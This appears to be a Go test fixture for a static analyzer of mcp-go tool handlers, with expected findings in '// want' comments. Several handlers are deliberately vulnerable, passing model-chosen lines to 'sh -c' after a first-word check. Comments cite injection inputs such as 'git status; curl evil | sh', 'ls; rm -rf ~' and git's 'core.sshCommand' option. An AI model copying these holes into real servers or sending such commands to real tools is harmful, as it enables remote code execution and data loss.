package main

import (
	"context"
	"errors"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"

	"github.com/mark3labs/mcp-go/mcp"
)

// allowedTools are the programs run_tool may start.
var allowedTools = []string{"git", "go", "make"}

// splitCommand returns the argv of a command line, or an error unless its
// program is one of allowedTools: a validator of the argv.
func splitCommand(line string) ([]string, error) {
	argv := strings.Fields(line)
	if len(argv) == 0 || !slices.Contains(allowedTools, argv[0]) {
		return nil, errors.New("program not allowed")
	}
	return argv, nil
}

// runTool runs an allowed program directly, without a shell: the model
// picks its arguments, not what runs.
func (w *workspace) runTool(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_tool mcp-go constant` `BR304: tool run_tool can run processes with no rate limit` `BR305: tool run_tool is not logged with its arguments`
	argv, err := splitCommand(req.GetString("command", ""))
	if err != nil { // want `run_tool: guard allowlist example\.com/mcp-go-confine\.splitCommand for exec os/exec\.CommandContext`
		return mcp.NewToolResultError(err.Error()), nil
	}
	out, err := exec.CommandContext(ctx, argv[0], argv[1:]...).Output() // want `run_tool: exec os/exec\.CommandContext` `BR301: tool run_tool can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// runListed runs an allowed program without a shell, its allowlist tested
// by a loop, as code before slices.Contains does it.
func (w *workspace) runListed(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_listed mcp-go constant` `BR304: tool run_listed can run processes with no rate limit` `BR305: tool run_listed is not logged with its arguments`
	argv := strings.Fields(req.GetString("command", ""))
	if len(argv) == 0 {
		return mcp.NewToolResultError("no command"), nil
	}
	allowed := false
	for _, name := range allowedTools {
		if argv[0] == name { // want `run_listed: guard allowlist comparison for exec os/exec\.CommandContext`
			allowed = true
			break
		}
	}
	if !allowed {
		return mcp.NewToolResultError("program not allowed"), nil
	}
	out, err := exec.CommandContext(ctx, argv[0], argv[1:]...).Output() // want `run_listed: exec os/exec\.CommandContext` `BR301: tool run_listed can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// gitRaw runs a git command line: its first word must be git, but what
// runs is git with every other word the model wrote (`-c
// core.sshCommand=...` runs a program of its choice).
func (w *workspace) gitRaw(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool git_raw mcp-go constant` `BR304: tool git_raw can run processes with no rate limit` `BR305: tool git_raw is not logged with its arguments`
	words := strings.Fields(req.GetString("command", ""))
	if len(words) == 0 || words[0] != "git" {
		return mcp.NewToolResultError("only git commands"), nil
	}
	out, err := exec.CommandContext(ctx, "git", words[1:]...).CombinedOutput() // want `git_raw: exec os/exec\.CommandContext \(tainted\)` `BR101: tool git_raw: model-controlled input reaches the arguments of os/exec\.CommandContext, which runs git` `BR301: tool git_raw can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// programAllowed reports whether a command line's program, its first word,
// is one of allowedTools: a check of the first word only.
func programAllowed(line string) bool {
	words := strings.Fields(line)
	if len(words) == 0 {
		return false
	}
	for _, name := range allowedTools {
		if words[0] == name {
			return true
		}
	}
	return false
}

// runAllowed checks the line's program, then splits the line again and runs
// its words without a shell: what runs is an allowed program.
func (w *workspace) runAllowed(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_allowed mcp-go constant` `BR304: tool run_allowed can run processes with no rate limit` `BR305: tool run_allowed is not logged with its arguments`
	line := req.GetString("command", "")
	if !programAllowed(line) { // want `run_allowed: guard allowlist example\.com/mcp-go-confine\.programAllowed for exec os/exec\.CommandContext`
		return mcp.NewToolResultError("program not allowed"), nil
	}
	return w.runWords(ctx, line)
}

func (w *workspace) runWords(ctx context.Context, line string) (*mcp.CallToolResult, error) {
	words := strings.Fields(line)
	out, err := exec.CommandContext(ctx, words[0], words[1:]...).Output() // want `run_allowed: exec os/exec\.CommandContext` `BR301: tool run_allowed can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// shellAllowed makes the same check, then hands the whole line to a shell:
// "git status; curl evil | sh" passes it.
func (w *workspace) shellAllowed(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool shell_allowed mcp-go constant` `BR304: tool shell_allowed can run processes with no rate limit` `BR305: tool shell_allowed is not logged with its arguments`
	line := req.GetString("command", "")
	if !programAllowed(line) {
		return mcp.NewToolResultError("program not allowed"), nil
	}
	out, err := exec.CommandContext(ctx, "sh", "-c", line).Output() // want `shell_allowed: exec os/exec\.CommandContext \(tainted\)` `BR101: tool shell_allowed: model-controlled input reaches the command of os/exec\.CommandContext` `BR301: tool shell_allowed can run processes through os/exec\.CommandContext with no confirmation before it` `BR303: tool shell_allowed: a model-chosen command reaches os/exec\.CommandContext with no sandbox or allowlist`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// vetted checks a command line's first word through another helper: still
// a check of the first word only.
func vetted(line string) bool {
	return strings.TrimSpace(line) != "" && programAllowed(line)
}

// runVetted runs the vetted line's words without a shell: an allowed
// program.
func (w *workspace) runVetted(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_vetted mcp-go constant` `BR304: tool run_vetted can run processes with no rate limit` `BR305: tool run_vetted is not logged with its arguments`
	line := req.GetString("command", "")
	if !vetted(line) { // want `run_vetted: guard allowlist example\.com/mcp-go-confine\.vetted for exec os/exec\.CommandContext`
		return mcp.NewToolResultError("program not allowed"), nil
	}
	words := strings.Fields(line)
	out, err := exec.CommandContext(ctx, words[0], words[1:]...).Output() // want `run_vetted: exec os/exec\.CommandContext` `BR301: tool run_vetted can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// runResolved runs the checked program from the tools directory: a path
// made of the first word checked.
func (w *workspace) runResolved(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_resolved mcp-go constant` `BR304: tool run_resolved can run processes with no rate limit` `BR305: tool run_resolved is not logged with its arguments`
	line := req.GetString("command", "")
	if !programAllowed(line) { // want `run_resolved: guard allowlist example\.com/mcp-go-confine\.programAllowed for exec os/exec\.CommandContext`
		return mcp.NewToolResultError("program not allowed"), nil
	}
	words := strings.Fields(line)
	out, err := exec.CommandContext(ctx, filepath.Join("/opt/tools/bin", words[0]), words[1:]...).Output() // want `run_resolved: exec os/exec\.CommandContext` `BR301: tool run_resolved can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// shellVetted hands a vetted line to a shell: the check of its first word
// does not confine what the shell runs.
func (w *workspace) shellVetted(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool shell_vetted mcp-go constant` `BR304: tool shell_vetted can run processes with no rate limit` `BR305: tool shell_vetted is not logged with its arguments`
	line := req.GetString("command", "")
	if !vetted(line) {
		return mcp.NewToolResultError("program not allowed"), nil
	}
	out, err := exec.CommandContext(ctx, "sh", "-c", line).Output() // want `shell_vetted: exec os/exec\.CommandContext \(tainted\)` `BR101: tool shell_vetted: model-controlled input reaches the command of os/exec\.CommandContext` `BR301: tool shell_vetted can run processes through os/exec\.CommandContext with no confirmation before it` `BR303: tool shell_vetted: a model-chosen command reaches os/exec\.CommandContext with no sandbox or allowlist`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// runQuoted runs an allowed program with arguments that must close every
// quote they open: a flag that flips itself (inQuote = !inQuote) is no
// check of the program, the map lookup before it is.
func (w *workspace) runQuoted(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_quoted mcp-go constant` `BR304: tool run_quoted can run processes with no rate limit` `BR305: tool run_quoted is not logged with its arguments`
	prog := req.GetString("program", "")
	if !quotedPrograms[prog] { // want `run_quoted: guard allowlist map lookup for exec os/exec\.CommandContext`
		return mcp.NewToolResultError("program not allowed"), nil
	}
	args := req.GetString("args", "")
	inQuote := false
	for _, r := range args {
		if r == '"' {
			inQuote = !inQuote
		}
	}
	if inQuote {
		return mcp.NewToolResultError("unterminated quote"), nil
	}
	out, err := exec.CommandContext(ctx, prog, strings.Fields(args)...).Output() // want `run_quoted: exec os/exec\.CommandContext` `BR301: tool run_quoted can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

var quotedPrograms = map[string]bool{"grep": true, "wc": true}

// runBatch runs every command after a "login" one: the flag says an
// earlier command was login, not that the one run is allowed.
func (w *workspace) runBatch(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_batch mcp-go constant` `BR304: tool run_batch can run processes with no rate limit` `BR305: tool run_batch is not logged with its arguments`
	authorized := false
	var b strings.Builder
	for _, c := range strings.Split(req.GetString("commands", ""), ";") {
		if !authorized {
			if c == "login" {
				authorized = true
			}
			continue
		}
		out, _ := exec.CommandContext(ctx, "sh", "-c", c).CombinedOutput() // want `run_batch: exec os/exec\.CommandContext \(tainted\)` `BR101: tool run_batch: model-controlled input reaches the command of os/exec\.CommandContext` `BR301: tool run_batch can run processes through os/exec\.CommandContext with no confirmation before it` `BR303: tool run_batch: a model-chosen command reaches os/exec\.CommandContext with no sandbox or allowlist`
		b.Write(out)
	}
	return mcp.NewToolResultText(b.String()), nil
}

// shellRejoined checks the line's program, then rebuilds the line from its
// words for a shell: "ls; rm -rf ~" passes.
func (w *workspace) shellRejoined(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool shell_rejoined mcp-go constant` `BR304: tool shell_rejoined can run processes with no rate limit` `BR305: tool shell_rejoined is not logged with its arguments`
	line := req.GetString("command", "")
	words := strings.Fields(line)
	if !programAllowed(line) {
		return mcp.NewToolResultError("program not allowed"), nil
	}
	out, err := exec.CommandContext(ctx, "sh", "-c", words[0]+" "+strings.Join(words[1:], " ")).Output() // want `shell_rejoined: exec os/exec\.CommandContext \(tainted\)` `BR101: tool shell_rejoined: model-controlled input reaches the command of os/exec\.CommandContext` `BR301: tool shell_rejoined can run processes through os/exec\.CommandContext with no confirmation before it` `BR303: tool shell_rejoined: a model-chosen command reaches os/exec\.CommandContext with no sandbox or allowlist`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// shellJoined checks the program, then joins the words back into a line
// for a shell: the shell reads the whole line, not the argv checked.
func (w *workspace) shellJoined(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool shell_joined mcp-go constant` `BR304: tool shell_joined can run processes with no rate limit` `BR305: tool shell_joined is not logged with its arguments`
	argv := strings.Fields(req.GetString("command", ""))
	if len(argv) == 0 || !slices.Contains(allowedTools, argv[0]) {
		return mcp.NewToolResultError("program not allowed"), nil
	}
	out, err := exec.CommandContext(ctx, "sh", "-c", strings.Join(argv, " ")).Output() // want `shell_joined: exec os/exec\.CommandContext \(tainted\)` `BR101: tool shell_joined: model-controlled input reaches the command of os/exec\.CommandContext` `BR301: tool shell_joined can run processes through os/exec\.CommandContext with no confirmation before it` `BR303: tool shell_joined: a model-chosen command reaches os/exec\.CommandContext with no sandbox or allowlist`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// gitCopied makes the same check as gitRaw, then copies the other words
// one by one: they are still the model's.
func (w *workspace) gitCopied(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool git_copied mcp-go constant` `BR304: tool git_copied can run processes with no rate limit` `BR305: tool git_copied is not logged with its arguments`
	words := strings.Fields(req.GetString("command", ""))
	if len(words) == 0 || words[0] != "git" {
		return mcp.NewToolResultError("only git commands"), nil
	}
	var args []string
	for i := 1; i < len(words); i++ {
		args = append(args, words[i])
	}
	out, err := exec.CommandContext(ctx, "git", args...).CombinedOutput() // want `git_copied: exec os/exec\.CommandContext \(tainted\)` `BR101: tool git_copied: model-controlled input reaches the arguments of os/exec\.CommandContext, which runs git` `BR301: tool git_copied can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// runSwitch runs one of three programs chosen by a switch.
func (w *workspace) runSwitch(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_switch mcp-go constant` `BR304: tool run_switch can run processes with no rate limit` `BR305: tool run_switch is not logged with its arguments`
	prog := req.GetString("program", "")
	switch prog {
	case "date", "uptime", "df": // want `run_switch: guard allowlist comparison for exec os/exec\.CommandContext`
	default:
		return mcp.NewToolResultError("unknown program"), nil
	}
	out, err := exec.CommandContext(ctx, prog, req.GetString("arg", "")).Output() // want `run_switch: exec os/exec\.CommandContext` `BR301: tool run_switch can run processes through os/exec\.CommandContext with no confirmation before it`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}

// runLine allows a line whose first word is git, and hands the whole line
// to a shell: "git status; rm -rf ~" passes.
func (w *workspace) runLine(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) { // want `tool run_line mcp-go constant` `BR304: tool run_line can run processes with no rate limit` `BR305: tool run_line is not logged with its arguments`
	line := req.GetString("command", "")
	if !strings.HasPrefix(line, "git ") {
		return mcp.NewToolResultError("only git"), nil
	}
	out, err := exec.CommandContext(ctx, "sh", "-c", line).Output() // want `run_line: exec os/exec\.CommandContext \(tainted\)` `BR101: tool run_line: model-controlled input reaches the command of os/exec\.CommandContext` `BR301: tool run_line can run processes through os/exec\.CommandContext with no confirmation before it` `BR303: tool run_line: a model-chosen command reaches os/exec\.CommandContext with no sandbox or allowlist`
	if err != nil {
		return mcp.NewToolResultError(err.Error()), nil
	}
	return mcp.NewToolResultText(string(out)), nil
}
